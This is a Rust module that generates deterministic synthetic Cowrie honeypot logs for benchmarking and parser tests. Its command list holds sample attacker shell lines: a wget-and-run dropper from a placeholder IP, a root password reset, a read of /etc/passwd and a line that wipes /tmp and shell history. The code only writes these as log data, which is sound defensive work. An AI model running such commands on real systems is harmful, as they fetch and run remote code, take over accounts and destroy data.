//! A deterministic generator of realistic Cowrie logs, for benchmarks and scale tests.
//!
//! The same `(events, seed)` always gives the same bytes (ChaCha8 is stable across
//! platforms and crate versions). Sessions follow Cowrie's real shape: connect, client
//! version and kex (SSH), failed logins, often a success, session params, commands (some
//! failing, some with quotes and backslashes), downloads and uploads, direct-tcpip abuse,
//! and closed; a few sessions are left open. Several sensors and protocols, Cowrie 1.x and
//! 2.x key styles, `duration` as float, string or `duration_ms`.

use std::io::{self, Write};

use chrono::{DateTime, Duration, TimeZone, Utc};
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;
use serde_json::{json, Value};

const SENSORS: &[&str] = &["honeypot-a", "honeypot-b", "920497a79896"];
const USERS: &[&str] = &["root", "admin", "ubuntu", "test", "oracle", "pi", "user", "support", ""];
const PASSWORDS: &[&str] = &["123456", "password", "admin", "root", "1234", "raspberry", "qwerty", "P@ssw0rd", ""];
const COMMANDS: &[&str] = &[
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "cd /tmp; wget http://203.0.113.7/bins.sh; chmod 777 bins.sh; sh bins.sh",
    "echo \"root:Xy12\"|chpasswd|bash",
    "free -m | grep Mem | awk '{print $2 ,$3}'",
    "ls -lh $(which ls)",
    "crontab -l",
    "w",
    "echo -e \"\\x6F\\x6B\"",
    "cat /etc/passwd",
    "nproc",
    "rm -rf /tmp/* ; history -c",
];
const CLIENTS: &[&str] =
    &["SSH-2.0-libssh-0.6.3", "SSH-2.0-Go", "SSH-2.0-OpenSSH_7.4", "b'SSH-2.0-PUTTY'", "SSH-2.0-paramiko_2.7.1"];
const HASSH: &[&str] =
    &["b5752e36ba6c5979a575e43178908adf", "1616c6d18e845e7a01168a44591f7a35", "92674389fa1e47a27ddd8d9b63ecd42b"];
const URLS: &[&str] = &[
    "http://203.0.113.7/bins.sh",
    "http://198.51.100.23/x86",
    "https://example.net/a.sh",
    "http://192.0.2.9:8080/mips",
];

/// Writes `events` Cowrie JSON lines generated from `seed` to `out`.
pub fn generate(events: u64, seed: u64, out: &mut dyn Write) -> io::Result<()> {
    let mut g = Gen {
        rng: ChaCha8Rng::seed_from_u64(seed),
        t: Utc.with_ymd_and_hms(2025, 9, 22, 0, 0, 0).unwrap(),
        n: 0,
        limit: events,
    };
    let mut out = io::BufWriter::with_capacity(1 << 16, out);
    while g.n < g.limit {
        g.session(&mut out)?;
    }
    out.flush()
}

struct Gen {
    rng: ChaCha8Rng,
    t: DateTime<Utc>,
    n: u64,
    limit: u64,
}

impl Gen {
    fn pick<'a>(&mut self, xs: &[&'a str]) -> &'a str {
        xs[self.rng.random_range(0..xs.len())]
    }

    /// A random SHA-256-looking hex digest.
    fn sha256(&mut self) -> String {
        (0..4).map(|_| format!("{:016x}", self.rng.random::<u64>())).collect()
    }

    fn tick(&mut self, max_ms: i64) -> DateTime<Utc> {
        self.t += Duration::microseconds(self.rng.random_range(1..max_ms * 1000));
        self.t
    }

    fn emit(&mut self, out: &mut dyn Write, mut v: Value, base: &Value, compact: bool) -> io::Result<()> {
        if self.n >= self.limit {
            return Ok(());
        }
        let obj = v.as_object_mut().expect("object");
        for (k, val) in base.as_object().expect("object") {
            obj.entry(k.clone()).or_insert(val.clone());
        }
        let ts = self.tick(400);
        obj.insert("timestamp".into(), json!(ts.format("%Y-%m-%dT%H:%M:%S%.6fZ").to_string()));
        let line = if compact { serde_json::to_string(&v)? } else { pretty_1x(&v) };
        out.write_all(line.as_bytes())?;
        out.write_all(b"\n")?;
        self.n += 1;
        Ok(())
    }

    fn session(&mut self, out: &mut dyn Write) -> io::Result<()> {
        let sensor = self.pick(SENSORS);
        let compact = sensor != "920497a79896"; // that sensor writes Cowrie 1.x style
        let sid = format!("{:012x}", self.rng.random::<u64>() & 0xffff_ffff_ffff);
        // Attackers come back: sources are drawn from a pool of 400, the first ones far more often.
        let k = (self.rng.random::<f64>().powi(3) * 400.0) as u32;
        let ip = if k % 50 == 7 {
            format!("2001:db8::{:x}", k + 1)
        } else {
            let h = k.wrapping_mul(2_654_435_761);
            format!("{}.{}.{}.{}", 1 + (h >> 24) % 223, (h >> 16) & 255, (h >> 8) & 255, 1 + (h & 255) % 254)
        };
        let telnet = self.rng.random_ratio(1, 8);
        let base = json!({"session": sid, "src_ip": ip, "sensor": sensor});
        self.t += Duration::milliseconds(self.rng.random_range(0..3000));
        let start = self.t;
        let src_port: u16 = self.rng.random_range(1024..65535);
        self.emit(out, json!({"eventid": "cowrie.session.connect", "src_port": src_port,
            "dst_ip": "10.0.0.5", "dst_port": if telnet { 2223 } else { 2222 }, "protocol": if telnet { "telnet" } else { "ssh" },
            "message": format!("New connection: {ip} [session: {sid}]")}), &base, compact)?;
        if !telnet {
            let v = self.pick(CLIENTS);
            self.emit(out, json!({"eventid": "cowrie.client.version", "version": v, "message": format!("Remote SSH version: {v}")}), &base, compact)?;
            let h = self.pick(HASSH);
            self.emit(out, json!({"eventid": "cowrie.client.kex", "hassh": h, "hasshAlgorithms": "curve25519-sha256;aes128-ctr;hmac-sha2-256;none",
                "kexAlgs": ["curve25519-sha256", "diffie-hellman-group14-sha1"], "keyAlgs": ["ssh-rsa"], "encCS": ["aes128-ctr"],
                "macCS": ["hmac-sha2-256"], "compCS": ["none"], "langCS": []}), &base, compact)?;
        }
        if self.rng.random_ratio(1, 10) {
            // Open-proxy abuse: direct-tcpip requests, no login.
            let n = self.rng.random_range(1..6);
            for _ in 0..n {
                self.emit(out, json!({"eventid": "cowrie.direct-tcpip.request", "dst_ip": "mail.example.com", "dst_port": 25, "src_port": 5555}), &base, compact)?;
                self.emit(out, json!({"eventid": "cowrie.direct-tcpip.data", "dst_ip": "mail.example.com", "dst_port": 25, "data": "b'EHLO x\\r\\n'"}), &base, compact)?;
            }
        }
        let fails = self.rng.random_range(0..4);
        for _ in 0..fails {
            let (u, p) = (self.pick(USERS), self.pick(PASSWORDS));
            self.emit(
                out,
                json!({"eventid": "cowrie.login.failed", "username": u, "password": p,
                "message": format!("login attempt [{u}/{p}] failed")}),
                &base,
                compact,
            )?;
        }
        if self.rng.random_ratio(3, 5) {
            let (u, p) = (self.pick(USERS), self.pick(PASSWORDS));
            self.emit(
                out,
                json!({"eventid": "cowrie.login.success", "username": u, "password": p,
                "message": format!("login attempt [{u}/{p}] succeeded")}),
                &base,
                compact,
            )?;
            self.emit(
                out,
                json!({"eventid": "cowrie.session.params", "arch": "linux-x64-lsb", "message": []}),
                &base,
                compact,
            )?;
            let cmds = self.rng.random_range(1..9);
            for _ in 0..cmds {
                let c = if self.rng.random_ratio(3, 20) {
                    format!("echo {:08x}", self.rng.random::<u32>())
                } else {
                    self.pick(COMMANDS).to_string()
                };
                self.emit(
                    out,
                    json!({"eventid": "cowrie.command.input", "input": c, "message": format!("CMD: {c}")}),
                    &base,
                    compact,
                )?;
                if self.rng.random_ratio(1, 10) {
                    self.emit(out, json!({"eventid": "cowrie.command.failed", "input": c, "message": format!("Command not found: {c}")}), &base, compact)?;
                }
            }
            if self.rng.random_ratio(1, 10) {
                let url = self.pick(URLS);
                let sha = self.sha256();
                self.emit(
                    out,
                    json!({"eventid": "cowrie.session.file_download", "url": url, "shasum": sha,
                    "outfile": format!("var/lib/cowrie/downloads/{sha}"), "destfile": "", "duplicate": false}),
                    &base,
                    compact,
                )?;
            }
            if self.rng.random_ratio(1, 50) {
                let sha = self.sha256();
                self.emit(
                    out,
                    json!({"eventid": "cowrie.session.file_upload", "filename": "x.sh", "shasum": sha, "outfile": sha}),
                    &base,
                    compact,
                )?;
            }
        }
        if self.rng.random_ratio(19, 20) {
            let secs = (self.t - start).num_microseconds().unwrap_or(0) as f64 / 1e6 + 0.4;
            let dur = match self.rng.random_range(0..3) {
                0 => json!({"duration": secs}),
                1 => json!({"duration": format!("{secs:.1}")}),
                _ => json!({"duration_ms": (secs * 1000.0) as i64}),
            };
            let mut v = json!({"eventid": "cowrie.session.closed", "message": format!("Connection lost after {} seconds", secs as i64)});
            for (k, x) in dur.as_object().expect("object") {
                v[k] = x.clone();
            }
            self.emit(out, v, &base, compact)?;
        }
        Ok(())
    }
}

/// Cowrie 1.x (Python 2) separators: `", "` and `": "`.
fn pretty_1x(v: &Value) -> String {
    let obj = v.as_object().expect("object");
    let parts: Vec<String> = obj.iter().map(|(k, x)| format!("{}: {}", json!(k), x)).collect();
    format!("{{{}}}", parts.join(", "))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn same_seed_same_bytes_other_seed_other_bytes() {
        let run = |seed| {
            let mut v = Vec::new();
            generate(500, seed, &mut v).unwrap();
            v
        };
        assert_eq!(run(7), run(7));
        assert_ne!(run(7), run(8));
        assert_eq!(run(7).iter().filter(|&&b| b == b'\n').count(), 500);
    }

    #[test]
    fn every_generated_line_is_accepted() {
        let mut v = Vec::new();
        generate(2000, 1, &mut v).unwrap();
        for line in v.split(|&b| b == b'\n').filter(|l| !l.is_empty()) {
            crate::store::ingest::event::parse_line(line, 0).unwrap();
        }
    }
}
